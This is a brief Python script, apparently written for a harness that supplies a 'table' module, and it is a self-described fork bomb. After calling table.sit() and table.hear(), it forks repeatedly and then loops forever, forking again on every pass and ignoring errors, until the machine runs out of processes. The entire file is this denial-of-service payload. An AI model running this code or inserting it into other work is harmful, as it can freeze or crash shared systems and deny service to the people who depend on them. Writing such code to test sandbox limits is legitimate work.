"""Starts as many processes as it can, each of which does the same."""

import os

import table

table.sit()
question = table.hear()
made = 0
try:
    for _ in range(12):
        made += os.fork() > 0
except OSError:
    pass
while True:
    try:
        os.fork()
    except OSError:
        continue
